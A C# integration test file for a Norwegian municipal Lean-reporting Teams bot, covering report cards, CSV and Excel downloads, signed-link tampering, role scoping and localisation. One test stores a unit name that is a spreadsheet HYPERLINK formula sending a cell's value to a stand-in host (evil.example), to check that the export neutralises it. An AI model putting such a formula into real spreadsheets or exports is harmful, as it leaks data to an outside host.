using System.Globalization;
using System.Net;
using System.Text;
using ClosedXML.Excel;
using LeanTeamsApp.Features.Board;
using LeanTeamsApp.Features.CheckIns;
using LeanTeamsApp.Features.Improvements;
using LeanTeamsApp.Features.Planning;
using LeanTeamsApp.Features.Weeks;
using LeanTeamsApp.IntegrationTests.Cards;
using Microsoft.Extensions.Time.Testing;

namespace LeanTeamsApp.IntegrationTests.Reports;

/// <summary>
/// The quarterly report for Q3 2026 on a fake clock (Monday 5 October 2026), from a seeded quarter: Byggesak (board
/// meeting on Thursdays) reported three meetings, one of them on 2 July in a week that began in June; Vann og avløp
/// (Mondays) reported 29 June, in the same ISO week but the previous quarter; one Gemba walk was recorded. The tab's
/// download is reached through the development sign-in, so the host opts in to it.
/// </summary>
public sealed class ReportTests : IAsyncLifetime
{
    private static readonly DateTimeOffset Now = new(2026, 10, 5, 8, 0, 0, TimeSpan.Zero);
    private readonly FakeTimeProvider _clock = new(Now);
    private BotHost _bot = null!;

    public async Task InitializeAsync()
    {
        _bot = await BotHost.StartAsync(DevelopmentSignIn.Settings(), time: _clock, environment: DevelopmentSignIn.Environment);
        await SeedAsync();
    }

    public async Task DisposeAsync() => await _bot.DisposeAsync();

    [Fact]
    public async Task ReportCommand_Q3_ShowsTheTotalsAndLinksToBothFiles()
    {
        var said = await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));

        Assert.Contains("Lean-rapport 3. kvartal 2026 – Fjordvik kommune (tall til og med 30.09.2026)", said, StringComparison.Ordinal);
        Assert.DoesNotContain("2026-Q3 –", said, StringComparison.Ordinal);
        Assert.Contains("{\"title\":\"Statusrapporter\",\"value\":\"3\"}", said, StringComparison.Ordinal);
        var facts = _bot.Connector.Requests.Last(r => r.Operation == ConnectorOperation.Reply).Activity!.Attachments![0].Content!["body"]![1]!["facts"]!.AsArray()
            .ToDictionary(f => (string)f!["title"]!, f => (string)f!["value"]!);
        // Norwegian groups thousands with a no-break space.
        Assert.Equal("Spart tid 3,5 timer; Penger 1\u00a0000 kroner", facts["Gevinster realisert"]);
        Assert.Contains("{\"title\":\"Gemba-besøk gjennomført\",\"value\":\"1\"}", said, StringComparison.Ordinal);
        Assert.Equal(["Last ned Excel", "Last ned CSV"], Links().Select(l => l.Title));
    }

    [Fact]
    public async Task CsvLink_Q3_HasTheRightFiguresPerUnitAndInTotal()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
        using var client = _bot.App.CreateClient();

        using var response = await client.GetAsync(Links().Single(l => l.Title == "Last ned CSV").Url);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(';')).ToList();
        Assert.Equal(["Tjenesteområde", "Enhet", "Tavlemøter forventet", "Tavlemøter gjennomført", "Statusrapporter", "Forbedringer, nye", "Forbedringer, ferdige", "Avvik",
            "Gemba-besøk gjennomført", "Revisjoner gjennomført", "Fiskebeinsanalyser", "Oppfølgingsområder, nye", "Oppfølgingsområder, lukket",
            "Oppfølgingsområder, åpne", "Oppfølgingsområder, forfalt", "Spart tid (timer)", "Penger (kroner)",
            "Realisert: Spart tid (timer)", "Realisert: Spart tid (årsverk)",
            "Realisert: Spart tid (timer), forrige periode (2. kvartal 2026)", "Realisert: Spart tid (årsverk), forrige periode (2. kvartal 2026)",
            "Realisert: Penger (kroner)", "Realisert: Penger (kroner), forrige periode (2. kvartal 2026)"], lines[0]);
        // 13 Thursdays in the quarter, less the three in the fellesferie the demo organisation sets (6-26 July).
        Assert.Equal(["Samfunnsutvikling og teknikk", "Byggesak", "10", "2", "3", "1", "3", "2", "1", "0", "0", "0", "0", "0", "0", "3,5", "1000", "3,5", "0", "40", "0,02", "1000", "0"], lines.Single(l => l[1] == "Byggesak"));
        var vann = lines.Single(l => l[1] == "Vann og avløp");
        Assert.Equal(("0", "0", "0"), (vann[4], vann[15], vann[16]));
        Assert.Equal("Sum", lines[^1][0]);
        // The realised benefits counted from the records by stage agree with the weeks' sums.
        Assert.Equal(["2", "3", "1", "3", "2", "1", "0", "0", "0", "0", "0", "0", "3,5", "1000", "3,5", "0", "90", "0,05", "1000", "0"], lines[^1][3..]);
        // Beside each figure the quarter before's: Byggesak's 40 hours of 25 June and Vann og avløp's 50 of 29 June. Each
        // area's units are followed by their sum: Byggesak's area holds every figure recorded, Vann og avløp's too.
        Assert.Equal(lines[^1][3..], lines.Single(l => l[0] == "Samfunnsutvikling og teknikk" && l[1] == "Sum")[3..]);
        var areaSums = lines.Count(l => l[1] == "Sum");
        Assert.Equal(12, lines.Count - 2 - areaSums);
    }

    [Fact]
    public async Task ExcelLink_Q3_OpensWithTheSameFigures()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "report Q3 2026", "en-GB"));
        using var client = _bot.App.CreateClient();

        using var response = await client.GetAsync(Links().Single(l => l.Title == "Download Excel").Url);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var workbook = new XLWorkbook(new MemoryStream(await response.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet("Report");
        var byggesak = sheet.RowsUsed().Single(r => r.Cell(2).GetString() == "Byggesak");
        Assert.Equal((10, 2, 3, 1), (byggesak.Cell(3).GetValue<int>(), byggesak.Cell(4).GetValue<int>(), byggesak.Cell(5).GetValue<int>(), byggesak.Cell(9).GetValue<int>()));
        Assert.Equal("Time saved (hours)", sheet.Cell(3, 16).GetString());
        Assert.Equal(3.5, byggesak.Cell(16).GetDouble());
        Assert.Equal(1000, byggesak.Cell(17).GetDouble());
        Assert.Equal("Total", sheet.LastRowUsed().Cell(1).GetString());
    }

    [Fact]
    public async Task DownloadLink_AlteredOrExpired_IsRefused()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
        using var client = _bot.App.CreateClient();
        var csv = Links().Single(l => l.Title == "Last ned CSV").Url;

        using var otherQuarter = await client.GetAsync(csv.Replace("2026-Q3.csv", "2026-Q2.csv", StringComparison.Ordinal));
        using var otherTenant = await client.GetAsync(csv.Replace(_bot.TenantId, TestTenants.New(), StringComparison.Ordinal));
        _clock.Advance(TimeSpan.FromHours(25));
        using var expired = await client.GetAsync(csv);

        Assert.Equal((HttpStatusCode.Forbidden, HttpStatusCode.Forbidden, HttpStatusCode.Forbidden), (otherQuarter.StatusCode, otherTenant.StatusCode, expired.StatusCode));
        Assert.Equal("application/problem+json", expired.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task ReportCommand_ServiceAreaLeader_GetsOnlyTheirUnits()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport 2026"));
        using var client = _bot.App.CreateClient();

        var csv = await client.GetStringAsync(Links().Single(l => l.Title == "Last ned CSV").Url);

        var units = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SkipLast(1).Select(l => l.Split(';')[0]).Distinct();
        Assert.Equal(["Helse og omsorg"], units);
    }

    [Fact]
    public async Task DownloadLinks_ServiceAreaLeader_CarryTheirAreaAndNoEmailAddress()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport K3 2026"));
        var leaderLinks = Links();
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
        var coordinatorLinks = Links();

        Assert.All(leaderLinks.Concat(coordinatorLinks), l =>
        {
            var url = Uri.UnescapeDataString(l.Url);
            Assert.DoesNotContain("@", url, StringComparison.Ordinal);
            Assert.DoesNotContain("leader=", url, StringComparison.Ordinal);
            Assert.DoesNotContain("tol.helse", url, StringComparison.Ordinal);
        });
        Assert.All(leaderLinks, l => Assert.Contains("&areas=helse-og-omsorg&", l.Url, StringComparison.Ordinal));
        Assert.All(coordinatorLinks, l => Assert.DoesNotContain("areas=", l.Url, StringComparison.Ordinal));
    }

    [Fact]
    public async Task DownloadLink_ServiceAreaLeadersScopeWidenedOrDropped_IsRefused()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport K3 2026"));
        using var client = _bot.App.CreateClient();
        var csv = Links().Single(l => l.Title == "Last ned CSV").Url;

        using var genuine = await client.GetAsync(csv);
        using var widened = await client.GetAsync(csv.Replace("areas=helse-og-omsorg", "areas=helse-og-omsorg%2Csamfunn-og-teknikk", StringComparison.Ordinal));
        using var swapped = await client.GetAsync(csv.Replace("areas=helse-og-omsorg", "areas=samfunn-og-teknikk", StringComparison.Ordinal));
        using var dropped = await client.GetAsync(csv.Replace("&areas=helse-og-omsorg", "", StringComparison.Ordinal));

        Assert.Equal(HttpStatusCode.OK, genuine.StatusCode);
        Assert.Equal((HttpStatusCode.Forbidden, HttpStatusCode.Forbidden, HttpStatusCode.Forbidden), (widened.StatusCode, swapped.StatusCode, dropped.StatusCode));
        Assert.DoesNotContain("Byggesak", await dropped.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task TabDownloadAndBotLink_ServiceAreaLeader_GiveTheSameFile()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport 2026"));
        using var client = _bot.App.CreateClient();
        var signing = _bot.App.Services.GetRequiredService<LeanTeamsApp.Infrastructure.Auth.DevSigningKey>();
        // Signed for the real clock: the token's lifetime is checked against it, not against this test's fake clock.
        var token = LeanTeamsApp.Infrastructure.Auth.TabAuthModule.IssueDevToken(signing, _bot.TenantId, "tol.helse@fjordvik.kommune.no", "Kari Nordby", DateTimeOffset.UtcNow);
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/tab/reports/2026.csv?lang=nb");
        request.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", token);

        var fromLink = await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned CSV").Url);
        using var fromTab = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, fromTab.StatusCode);
        Assert.Equal(fromLink, await fromTab.Content.ReadAsByteArrayAsync());
        Assert.Contains("Fjordtun sykehjem", Encoding.UTF8.GetString(fromLink), StringComparison.Ordinal);
        Assert.DoesNotContain("Byggesak", Encoding.UTF8.GetString(fromLink), StringComparison.Ordinal);
    }

    // Whatever a link's expiry says, the answer is a refusal: never a 500 (a date past year 9999 once was one).
    [Theory]
    [InlineData("253402300800")]
    [InlineData("9223372036854775807")]
    [InlineData("-9223372036854775808")]
    [InlineData("0")]
    [InlineData("99999999999999999999")]
    [InlineData("1e12")]
    [InlineData("")]
    public async Task DownloadLink_ExpiryAlteredToAnyValue_IsRefusedNever500(string expires)
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
        using var client = _bot.App.CreateClient();
        var csv = Links().Single(l => l.Title == "Last ned CSV").Url;
        var genuine = System.Text.RegularExpressions.Regex.Match(csv, "expires=([0-9]+)").Groups[1].Value;

        using var response = await client.GetAsync(csv.Replace($"expires={genuine}", $"expires={expires}", StringComparison.Ordinal));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task CsvLink_UnitNamedLikeAFormula_ReachesExcelAsText()
    {
        const string Formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Byggesak\")";
        var unit = (await _bot.App.Store.GetUnitAsync(_bot.TenantId, "byggesak", default))!;
        Assert.Equal(LeanTeamsApp.Features.Organisation.WriteOutcome.Written, (await _bot.App.Store.SaveUnitAsync(_bot.TenantId, unit with { Name = Formula }, default)).Outcome);
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
        using var client = _bot.App.CreateClient();

        var csv = Encoding.UTF8.GetString((await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned CSV").Url))[3..]);
        using var workbook = new XLWorkbook(new MemoryStream(await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned Excel").Url)));

        using var reader = new CsvHelper.CsvReader(new StringReader(csv), new CsvHelper.Configuration.CsvConfiguration(CultureInfo.GetCultureInfo("nb-NO")));
        var names = new List<string>();
        while (reader.Read())
        {
            names.Add(reader.GetField(1)!);
        }

        Assert.Contains("'" + Formula, names);
        Assert.DoesNotContain(Formula, names);
        var cell = workbook.Worksheet(1).CellsUsed().Single(c => c.GetString() == Formula);
        Assert.False(cell.HasFormula);
    }

    [Theory]
    [InlineData("rapport T4 2026", "Skriv for eksempel «rapport K3 2026»")]
    [InlineData("rapport K5 2026", "Skriv for eksempel «rapport K3 2026»")]
    [InlineData("rapport K1 2027", "Den perioden har ikke begynt ennå.")]
    public async Task ReportCommand_BadOrFuturePeriod_Explains(string text, string answer)
    {
        var said = await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, text));

        Assert.Contains(answer, said, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("rapport K3 2026", "nb-NO", "Lean-rapport 3. kvartal 2026 –", "forrige periode (2. kvartal 2026)")]
    [InlineData("rapport K3 2026", "nn-NO", "Lean-rapport 3. kvartal 2026 –", "førre periode (2. kvartal 2026)")]
    [InlineData("rapport K3 2026", "sv-SE", "Leanrapport kvartal 3 2026 –", "föregående period (kvartal 2 2026)")]
    [InlineData("report Q3 2026", "en-GB", "Lean report Q3 2026 –", "previous period (Q2 2026)")]
    [InlineData("rapport T2 2026", "nb-NO", "Lean-rapport 2. tertial 2026 –", "forrige periode (1. tertial 2026)")]
    [InlineData("rapport T3 2026", "sv-SE", "Leanrapport tertial 3 2026 –", "föregående period (tertial 2 2026)")]
    [InlineData("rapport 2026", "nb-NO", "Lean-rapport 2026 –", "forrige periode (2025)")]
    public async Task ReportCommand_AnyLanguage_NamesThePeriodInThatLanguage(string text, string locale, string title, string previous)
    {
        var said = await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, text, locale));

        Assert.Contains(title, said, StringComparison.Ordinal);
        Assert.Contains(previous, said, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ReportCommand_UnitLeader_IsRefused()
    {
        var said = await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.ByggesakLeader, "report Q3 2026", "en-GB"));

        Assert.Contains("You are not allowed to see the whole organisation's figures.", said, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ReportCard_IsValidForTheOfficialRenderer()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026", "sv-SE"));
        var card = _bot.Connector.Requests.Last(r => r.Operation == ConnectorOperation.Reply).Activity!.Attachments![0].Content!.ToJsonString();

        var verdicts = await OfficialRenderer.ValidateAsync(new Dictionary<string, string> { ["report-card"] = card }, OfficialRenderer.ArtifactsFolder);

        Assert.True(verdicts["report-card"].IsValid, verdicts["report-card"].ToString());
    }

    [Fact]
    public async Task ReportCard_AskedInNynorsk_IsWrittenInNynorskAndValidForTheOfficialRenderer()
    {
        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026", "nn-NO"));
        var card = _bot.Connector.Requests.Last(r => r.Operation == ConnectorOperation.Reply).Activity!.Attachments![0].Content!.ToJsonString(
            new System.Text.Json.JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping });

        var verdicts = await OfficialRenderer.ValidateAsync(new Dictionary<string, string> { ["report-card-nn"] = card }, OfficialRenderer.ArtifactsFolder);

        Assert.True(verdicts["report-card-nn"].IsValid, verdicts["report-card-nn"].ToString());
        Assert.Contains("(tal til og med", card, StringComparison.Ordinal);
        Assert.Contains("Lenkjene verkar i", card, StringComparison.Ordinal);
        Assert.Contains("lang=nn", card, StringComparison.Ordinal);
    }

    private List<(string Title, string Url)> Links() =>
    [
        .. _bot.Connector.Requests.Last(r => r.Operation == ConnectorOperation.Reply).Activity!.Attachments![0].Content!["actions"]!.AsArray()
            .Select(a => ((string)a!["title"]!, (string)a["url"]!)),
    ];

    /// <summary>
    /// The check-ins are stored as check-ins from before improvements were counted from their records: with typed
    /// "done" figures and no moved records, those weeks keep what was typed (CheckIn.WithTypedFigures).
    /// </summary>
    private async Task SeedAsync()
    {
        var checkIns = _bot.App.Services.GetRequiredService<CheckInStore>();
        var records = _bot.App.Services.GetRequiredService<ImprovementStore>();
        var weeks = _bot.App.Services.GetRequiredService<UnitWeekStore>();
        async Task CheckInAsync(string unit, string date, bool held, int done, string[] deviations, BenefitEntry? benefit, string[]? added = null)
        {
            var day = DateOnly.ParseExact(date, "yyyy-MM-dd", CultureInfo.InvariantCulture);
            var checkIn = new CheckIn(unit, day, held, held ? null : NotHeldReason.TooBusy, held ? 6 : null, added?.Length ?? 0, 0, done, deviations,
                benefit is null ? [] : [benefit], null, null, "Seed", Now) { NewImprovements = added ?? [] };
            await checkIns.SubmitAsync(_bot.TenantId, checkIn, default);
            await records.RecordCheckInAsync(_bot.TenantId, checkIn.UnitId, checkIn.MeetingDate, CheckInRecords.Of(checkIn), default);
            await weeks.RefreshAsync(_bot.TenantId, (await _bot.App.Store.GetUnitAsync(_bot.TenantId, unit, default))!, day, default);
        }

        await CheckInAsync("byggesak", "2026-06-25", true, 5, [], new BenefitEntry(BenefitKind.TimeSaved, 40m, BenefitMeasure.Hours, []));
        await CheckInAsync("byggesak", "2026-07-02", true, 1, ["Feil i skjema", "Ventetid"], new BenefitEntry(BenefitKind.TimeSaved, 3.5m, BenefitMeasure.Hours, []), ["Digital sjekkliste"]);
        await CheckInAsync("byggesak", "2026-08-06", true, 2, [], new BenefitEntry(BenefitKind.Money, 1000m, BenefitMeasure.Nok, []));
        await CheckInAsync("byggesak", "2026-09-24", false, 0, [], null);
        await CheckInAsync("byggesak", "2026-10-01", true, 9, [], new BenefitEntry(BenefitKind.TimeSaved, 100m, BenefitMeasure.Hours, []));
        await CheckInAsync("vann-og-avlop", "2026-06-29", true, 4, [], new BenefitEntry(BenefitKind.TimeSaved, 50m, BenefitMeasure.Hours, []));

        var appointments = _bot.App.Services.GetRequiredService<AppointmentStore>();
        PlannedAppointment Walk(string id, int day) => new(id, AppointmentKind.GembaWalk, "byggesak", "tol.samfunn@fjordvik.kommune.no", ["leder.byggesak@fjordvik.kommune.no"],
            new DateTimeOffset(2026, 9, day, 10, 0, 0, TimeSpan.FromHours(2)), new DateTimeOffset(2026, 9, day, 11, 0, 0, TimeSpan.FromHours(2)));
        var done = Walk(PlannedAppointment.IdFor(AppointmentKind.GembaWalk, "byggesak", 2026, 2), 15);
        var notDone = Walk(PlannedAppointment.IdFor(AppointmentKind.GembaWalk, "vann-og-avlop", 2026, 2), 16) with { UnitId = "vann-og-avlop" };
        await appointments.ApplyAsync(_bot.TenantId, 2026, new YearPlan([done, notDone], [done, notDone], [], [], [], [], []), [], default);
        var stored = (await appointments.GetAsync(_bot.TenantId, 2026, done.Id, default))!;
        Assert.True(await appointments.UpdateAsync(_bot.TenantId, stored with { Status = AppointmentStatus.Done }, default));
    }
}
